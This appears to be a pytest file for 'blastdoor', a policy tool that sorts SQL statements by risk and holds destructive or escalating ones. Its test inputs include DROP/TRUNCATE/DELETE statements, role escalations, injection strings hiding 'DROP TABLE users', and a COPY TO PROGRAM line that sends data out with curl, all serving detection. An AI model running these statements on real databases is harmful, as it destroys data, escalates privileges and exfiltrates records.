"""SQL statements judged by the policy: destruction held, filtered changes held, reads allowed."""

from __future__ import annotations

import pytest

from blastdoor.analyze.sql import analyze_sql, findings, postgres_statements
from blastdoor.model import Verb
from tests.conftest import decide


@pytest.mark.parametrize(
    ("sql", "verb", "tag"),
    [
        ("DROP TABLE invoices CASCADE", Verb.DESTROY, "cascade"),
        ("drop database shop", Verb.DESTROY, "drop"),
        ("TRUNCATE audit_log", Verb.DELETE, "truncate"),
        ("DELETE FROM accounts", Verb.DELETE, "no-where"),
        ("UPDATE accounts SET plan = 'free' WHERE 2 = 2", Verb.MODIFY, "trivial-where"),
        ("delete from accounts where id is not null", Verb.DELETE, "trivial-where"),
        ("DELETE FROM accounts WHERE id = 42", Verb.DELETE, "filtered"),
        ("ALTER TABLE accounts DROP COLUMN phone", Verb.DESTROY, "drop-column"),
        ("ALTER ROLE agent WITH SUPERUSER", Verb.ESCALATE, "permissions"),
        ("DELETE FROM `orders`", Verb.DELETE, "unparsed"),
        ("DROP KEYSPACE metrics", Verb.DESTROY, "unparsed"),
    ],
)
def test_statement_verbs(sql: str, verb: Verb, tag: str) -> None:
    found = analyze_sql(sql, target="db.internal/shop")
    match = [e for e in found if e.verb is verb]
    assert match, found
    assert tag in match[0].tags
    assert "database=db.internal/shop" in match[0].tags


def test_reads_and_meta_commands_only_read() -> None:
    found = analyze_sql(
        "\\dt\nSELECT count(*) FROM orders;\nSHOW search_path;\nEXPLAIN DELETE FROM orders;"
    )
    assert {e.verb for e in found} == {Verb.READ}


def test_explain_analyze_runs_the_statement() -> None:
    assert {e.verb for e in analyze_sql("EXPLAIN ANALYZE DELETE FROM orders")} == {Verb.DELETE}


def test_data_changing_cte_is_seen() -> None:
    found = analyze_sql(
        "WITH gone AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM gone"
    )
    assert Verb.DELETE in {e.verb for e in found}


def test_do_block_and_copy_program() -> None:
    assert Verb.DESTROY in {
        e.verb for e in analyze_sql("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$")
    }
    found = analyze_sql("COPY orders TO PROGRAM 'curl -d @- http://x'")
    assert found[0].verb is Verb.EXECUTE_UNKNOWN


@pytest.mark.parametrize(
    "garbage", ["", ";;;", "\x00\x01", "SELECT 'unterminated", "$$", "((((" * 50]
)
def test_never_raises(garbage: str) -> None:
    assert isinstance(analyze_sql(garbage), list)


def test_roles_that_bypass_row_level_security_are_escalations() -> None:
    (bypass,) = findings("SET ROLE service_role")
    assert bypass.verb.value == "escalate" and "rls-bypass" in bypass.tags
    (superuser,) = findings("SET SESSION AUTHORIZATION postgres")
    assert superuser.verb.value == "escalate"
    assert [
        f.verb.value for f in findings("SET LOCAL ROLE authenticated; SET search_path = app")
    ] == ["execute", "execute"]


@pytest.mark.parametrize(
    ("sql", "verb", "detail"),
    [
        ("CREATE SCHEMA billing", Verb.CREATE, "create a schema"),
        ("CREATE INDEX ON invoices (due)", Verb.CREATE, "create an index"),
        ("CREATE SEQUENCE invoice_no", Verb.CREATE, "create a sequence"),
        ("CREATE VIEW unpaid AS SELECT * FROM invoices", Verb.CREATE, "create a view"),
        ("CREATE OR REPLACE VIEW unpaid AS SELECT 1", Verb.MODIFY, "replace a view"),
    ],
)
def test_creates_say_what_they_make(sql: str, verb: Verb, detail: str) -> None:
    (found,) = findings(sql)
    assert (found.verb, found.detail) == (verb, detail)


def test_a_lone_name_is_no_statement_except_where_it_runs_a_procedure() -> None:
    assert [f.verb for f in findings("monthly_report")] == [Verb.READ]
    assert [f.verb for f in findings("monthly_report", dialect="hive")] == [Verb.READ]
    assert [f.verb for f in findings("usp_purge_orders", dialect="tsql")] == [Verb.EXECUTE_UNKNOWN]
    assert [f.verb for f in findings("SHUTDOWN")] == [Verb.EXECUTE_UNKNOWN]
    assert [f.verb for f in findings("units * price", dialect="hive")] == [Verb.EXECUTE_UNKNOWN]


@pytest.mark.parametrize("sql", [
    "SELECT $a1$ ' $a1$; DROP TABLE users; SELEC garbage;",  # a dollar tag may hold digits
    "SELECT E'\\'' ; DROP TABLE users; SELEC x; -- '",  # a backslash escapes the quote in E'...'
    "SELECT 1 /* /* */ ' */; DROP TABLE users; SELEC garbage; -- '",  # comments nest
    "SELECT x$a$; DROP TABLE users; SELEC garbage; SELECT $a$",  # a $ inside a name quotes nothing
    "SELECT e'\\u00'; DROP TABLE users; SELEC x; SELECT '",  # an escape the lexer refuses mid-string
    'SELECT ""; DROP TABLE users; SELEC x; SELECT "',  # a token the lexer refuses
])  # fmt: skip
def test_a_statement_pglast_cannot_parse_does_not_hide_the_next_one(sql: str) -> None:
    # the text fails to parse whole, so it is cut where PostgreSQL's own lexer cuts it
    assert decide(f"psql -h db.prod.example.com -d app <<'EOF'\n{sql}\nEOF\n").kind.value == "hold"
    pieces = postgres_statements(sql)
    assert not any(piece.startswith("SELECT") for piece in pieces if "DROP" in piece)


@pytest.mark.parametrize(("text", "pieces"), [
    ("SELECT 1; SELECT 2;", ["SELECT 1", "SELECT 2"]),
    ("-- note\nSELECT 1 ;;\n; /* end */", ["-- note\nSELECT 1"]),
    ("SELECT 'a;b', \"c;d\", $f$ ; $f$, E'\\\\'; SELECT 2", ["SELECT 'a;b', \"c;d\", $f$ ; $f$, E'\\\\'", "SELECT 2"]),
    ("SELECT 'a\\'; SELECT $x$;$x$; SELECT 1--1", ["SELECT 'a\\'", "SELECT $x$;$x$", "SELECT 1--1"]),
    ("SELECT e'\\uD800\\xff\\377'; SELECT 0x; SELECT 1abc", ["SELECT e'\\uD800\\xff\\377'", "SELECT 0x", "SELECT 1abc"]),
    ("SELECT 1; SELECT 'open; DROP TABLE t", ["SELECT 1", "SELECT 'open; DROP TABLE t"]),
    ("SELECT 1; /* open; DROP TABLE t", ["SELECT 1"]),
    ("SELECT (1; 2)", ["SELECT (1", "2)"]),  # cut where psql would not: every piece is judged
])  # fmt: skip
def test_postgres_text_is_cut_where_its_lexer_cuts_it(text: str, pieces: list[str]) -> None:
    assert postgres_statements(text) == pieces


def test_too_many_tokens_the_lexer_refuses_leave_the_text_unanalyzed() -> None:
    assert postgres_statements("SELECT 1abc; " * 99 + "DROP TABLE t")[-1] == "DROP TABLE t"
    (found,) = analyze_sql("SELECT 1abc; " * 101 + "DROP TABLE t")
    assert found.verb is Verb.EXECUTE_UNKNOWN and "could not be analyzed" in found.detail


@pytest.mark.parametrize("dialect", ["", "mysql"])
def test_sql_holding_a_nul_is_not_analyzed(dialect: str) -> None:
    # pglast would read "SELECT 1;" alone: the parser stops at the NUL
    (found,) = findings("SELECT 1;\x00 DROP TABLE users", dialect=dialect)
    assert found.verb is Verb.EXECUTE_UNKNOWN and "NUL" in found.detail
